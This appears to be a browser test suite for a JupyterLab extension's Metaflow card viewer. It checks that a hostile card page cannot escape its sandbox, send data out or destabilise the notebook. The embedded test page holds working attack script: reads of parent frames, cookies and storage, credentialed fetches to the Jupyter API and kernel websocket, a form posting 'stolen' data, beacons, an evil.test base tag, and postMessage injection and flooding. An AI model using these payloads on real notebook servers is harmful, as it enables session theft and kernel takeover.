"""Hostile texts and cards in JupyterLab: no script runs, nothing leaves the machine, the page stays whole."""

from __future__ import annotations

import json
import shutil
from collections import Counter
from pathlib import Path
from typing import TYPE_CHECKING
from urllib.parse import urlsplit

import nbformat
import pytest
from playwright.sync_api import expect

from tests.browser.seen import Seen, notebook_in_lab
from tests.faults import hostile_cells, payloads
from tests.kernel.harness import run_flow

if TYPE_CHECKING:
    from collections.abc import Iterator

    from playwright.sync_api import Browser, Request

pytestmark = pytest.mark.slow

FLOW = Path(__file__).parents[1] / "faults" / "hostileflow.py"
PLACES = ("values", "changes", "cards", "inputs", "flow", "past cards", "many tasks", "printed")
# What a hostile text did to the notebook's page, if anything.
LOOK = """() => ({
  pwned: window.pwned ?? null,
  globals: ['jupyterapp', 'document', 'location'].map((name) => typeof window[name]),
  base: document.querySelectorAll('base').length,
  refresh: document.querySelectorAll('meta[http-equiv=refresh]').length,
  forms: document.querySelectorAll('.jp-OutputArea form').length,
  links: [...document.querySelectorAll('.spin-panel a, .spin-panel [onerror], .spin-panel [onload]')].length,
  scripts: document.querySelectorAll('.jp-OutputArea script').length,
  formulas: document.querySelectorAll('.spin-panel mjx-container, .spin-panel .MathJax').length,
  popups: document.querySelectorAll('.jp-Dialog').length,
  title: document.title,
})"""
# A card that does all that a page may try, and then floods.
PAGE = """<!doctype html><title>evil</title><base href="http://evil.test/">
<meta http-equiv="refresh" content="0;url=http://127.0.0.1:9/refresh">
<link rel="stylesheet" href="http://127.0.0.1:9/style.css">
<link rel="prefetch" href="http://127.0.0.1:9/prefetch">
<style>@import url(http://127.0.0.1:9/import.css);
body { background: url(http://127.0.0.1:9/background) }</style>
<form id="form" action="http://127.0.0.1:9/form" method="post" target="_top">
<input name="stolen" value="1"></form>
<iframe src="http://127.0.0.1:9/frame"></iframe><object data="http://127.0.0.1:9/object"></object>
<a id="link" href="http://127.0.0.1:9/link" target="_top">x</a>
<a id="file" href="data:text/plain,x" download="pwned.txt">x</a>
<p id="said">nothing yet</p>
<script>
  const said = [];
  const attempt = (name, act) => {
    try { said.push(`${name}: ${act()}`); } catch (error) { said.push(`${name} refused`); }
  };
  const later = (name, promise) =>
    promise.then(() => said.push(`${name}: done`), () => said.push(`${name} refused`));
  attempt("parent", () => parent.document.title);
  attempt("grandparent", () => parent.parent.document.title);
  attempt("top", () => top.document.body.innerHTML.length);
  attempt("app", () => top.jupyterapp.serviceManager);
  attempt("cookie", () => document.cookie);
  attempt("storage", () => localStorage.length);
  attempt("session", () => sessionStorage.length);
  attempt("database", () => indexedDB.open("x"));
  attempt("top.location", () => { top.location.href = "http://127.0.0.1:9/top"; return "set"; });
  attempt("worker", () => new Worker("data:text/javascript,postMessage(1)") && "made");
  later("fetch", fetch("http://127.0.0.1:9/fetch"));
  later("api", fetch("ORIGIN/api/contents", { credentials: "include" }));
  later("kernel", new Promise((done, fail) => {
    const socket = new WebSocket("ORIGIN/api/kernels/x/channels".replace("http", "ws"));
    socket.onopen = done; socket.onerror = fail;
  }));
  attempt("popup", () => String(window.open("http://127.0.0.1:9/popup")));
  attempt("print", () => { print(); alert("pwned"); return "asked"; });
  document.getElementById("form").submit();
  document.getElementById("link").click();
  document.getElementById("file").click();
  later("fullscreen", document.documentElement.requestFullscreen());
  later("pointer", Promise.resolve(document.documentElement.requestPointerLock()));
  later("clipboard", navigator.clipboard ? navigator.clipboard.readText() : Promise.reject());
  navigator.sendBeacon?.("http://127.0.0.1:9/beacon");
  for (const height of [1e9, -1e9, NaN, Infinity, "1e9px", { valueOf: () => 1e9 }, 1e308])
    try { parent.postMessage({ spinHeight: height }, "*"); } catch {}
  for (const target of [parent, parent.parent, top]) {
    target.postMessage({ spinHeight: 1e9 }, "*");
    target.postMessage({ spinReady: true }, "*");
    target.postMessage({ spinPage: "<script>top.pwned = 21<\\/script>" }, "*");
    target.postMessage({ spinCard: { reload_token: "x", data: {} } }, "*");
    target.postMessage({ ask: "bind", name: "texts", as: "pwned" }, "*");
    target.postMessage({ spinPage: "x".repeat(5e6) }, "*");
  }
  setTimeout(() => { document.getElementById("said").textContent = said.join(", "); }, 1500);
  // It shakes its frame, and floods.
  let turn = 0;
  setInterval(() => {
    for (let i = 0; i < 50; i++) parent.postMessage({ spinHeight: (turn = 1 - turn) ? 3000 : 30 }, "*");
  }, 5);
</script>"""
REFUSED = (
    "parent", "grandparent", "top", "app", "cookie", "storage", "session", "database", "top.location",
    "fetch", "api", "kernel", "fullscreen", "pointer", "clipboard",
)  # fmt: skip
CARD = """from metaflow.cards import MetaflowCard
from metaflow.plugins import CARDS
class EvilCard(MetaflowCard):
    type = "worst"
    def render(self, task):
        return EVIL_PAGE
CARDS.append(EvilCard)
EVIL_PAGE = """
STEP = """%%spin HostileFlow end
@card(type="worst")
@step
def end(self):
    pass"""


@pytest.fixture(scope="module")
def hostile(quickstart: Path, lab: str) -> Path:
    """A notebook that runs the worst of it, in the folder that the server shows."""
    folder = quickstart / "hostile"
    (folder / ".metaflow").mkdir(parents=True)
    shutil.copy(FLOW, folder)
    few = {name: text for name, text in payloads.ALL.items() if name not in payloads.LONG}
    lists = {"given": [payloads.MARKUP["handler"], payloads.MARKUP["ends"]], "names": []}
    (folder / "texts.json").write_text(json.dumps({"all": few, **lists}))
    run_flow(Path("hostileflow.py"), folder)
    cells = [hostile_cells.BEGIN, *(hostile_cells.SHOWN[place] for place in PLACES)]
    cells += [CARD + repr(PAGE.replace("ORIGIN", lab)), STEP]
    notebook = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell(cell.strip()) for cell in cells])
    notebook.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
    nbformat.write(notebook, folder / "hostile.ipynb")
    return folder / "hostile.ipynb"


@pytest.fixture(scope="module")
def seen(browser: Browser, lab: str, hostile: Path) -> Iterator[Seen]:
    with notebook_in_lab(browser, lab, "hostile/hostile.ipynb") as seen:
        seen.page.on("dialog", lambda dialog: (seen.complaints.append(dialog.message), dialog.dismiss()))
        seen.page.on("download", lambda download: seen.complaints.append(download.suggested_filename))
        seen.page.context.on("requestfailed", note_stopped)
        seen.page.context.on("page", lambda page: seen.complaints.append(f"opened {page.url}"))
        yield seen


def checked(seen: Seen) -> None:
    """Look whether the notebook is as it would be with harmless texts."""
    found = seen.page.evaluate(LOOK)
    assert found.pop("title").startswith("hostile"), found
    assert found.pop("globals") == ["object"] * 3
    assert found == dict.fromkeys(found, 0) | {"pwned": None}
    assert seen.page.url.startswith("http://127.0.0.1:")


# What the browser itself stopped, by our policy, before anything was sent.
STOPPED: list[str] = []


def note_stopped(request: Request) -> None:
    if request.failure == "csp":
        STOPPED.append(request.url)


def elsewhere(seen: Seen) -> list[str]:
    """Name what was asked of anybody but the server, and not stopped before it was."""
    port = urlsplit(seen.page.url).port
    urls = [urlsplit(url) for url in (Counter(seen.requests) - Counter(STOPPED)).elements()]
    return [
        url.geturl()[:200]
        for url in urls
        if url.scheme not in {"data", "blob", "about"} and (url.hostname, url.port) != ("127.0.0.1", port)
    ]


def test_no_text_becomes_more_than_text(seen: Seen) -> None:
    seen.run_all()
    seen.wait_until_all_ran()
    expect(seen.page.locator("[data-test='panel']").first).to_be_visible(timeout=20_000)
    # All that opens is opened: the rows, the flow, the logs.
    for summary in seen.page.locator("summary.spin-line").all()[:60]:
        summary.evaluate("each => each.parentElement.open = true")
    for flow in seen.page.get_by_role("button", name="Flow", exact=True).all():
        flow.click()
    seen.page.wait_for_timeout(3000)
    checked(seen)


def test_a_hostile_page_reaches_nothing(seen: Seen) -> None:
    cell = seen.cell('type="worst"')
    cell.locator("[data-test='tab-cards']").last.click()
    card = cell.locator("iframe[data-test='card-page']")
    said = card.content_frame.frame_locator("iframe").locator("#said")
    expect(said).to_contain_text("fetch refused", timeout=20_000)
    text = said.inner_text()
    assert [name for name in REFUSED if f"{name} refused" not in text] == [], text
    assert "popup: null" in text
    checked(seen)


def test_a_page_that_floods_does_not_shake_the_notebook(seen: Seen) -> None:
    card = seen.cell('type="worst"').locator("iframe[data-test='card-page']")
    changes = card.evaluate("""each => new Promise((done) => {
        let changes = 0;
        const watch = new MutationObserver((all) => (changes += all.length));
        watch.observe(each, { attributes: true, attributeFilter: ["style"] });
        setTimeout(() => { watch.disconnect(); done(changes); }, 4000);
    })""")
    assert changes <= 4
    assert card.evaluate("each => each.offsetHeight") <= 20_000
    # And the notebook still runs cells.
    seen.run_below("print('alive', 'pwned' in globals())")
    expect(seen.page.get_by_text("alive False")).to_be_visible(timeout=20_000)


def test_nothing_left_the_machine_and_nobody_complains(seen: Seen) -> None:
    assert elsewhere(seen) == []
    # The browser reports what it has stopped in the card's own frames.
    ours = [each for each in seen.complaints if "about:srcdoc" not in each and "127.0.0.1:9" not in each]
    assert ours == []


def test_the_saved_notebook_does_nothing_either(
    seen: Seen, browser: Browser, lab: str, hostile: Path
) -> None:
    seen.page.evaluate("() => window.jupyterapp.commands.execute('docmanager:save')")
    seen.page.wait_for_timeout(2000)
    # As it comes from somebody else: nobody has vouched for its outputs.
    foreign = nbformat.read(hostile, as_version=4)
    for cell in foreign.cells:
        cell.metadata.pop("trusted", None)
        cell.source = f"# {cell.source}"
    nbformat.write(foreign, hostile.with_name("foreign.ipynb"))
    for name in ("hostile", "foreign"):
        with notebook_in_lab(browser, lab, f"hostile/{name}.ipynb") as again:
            again.page.context.on("requestfailed", note_stopped)
            again.page.wait_for_timeout(3000)
            found = again.page.evaluate(LOOK)
            assert found.pop("title").startswith(name)
            assert found.pop("globals") == ["object"] * 3
            assert found == dict.fromkeys(found, 0) | {"pwned": None}, name
            assert elsewhere(again) == []
            assert [each for each in again.complaints if "about:srcdoc" not in each] == []
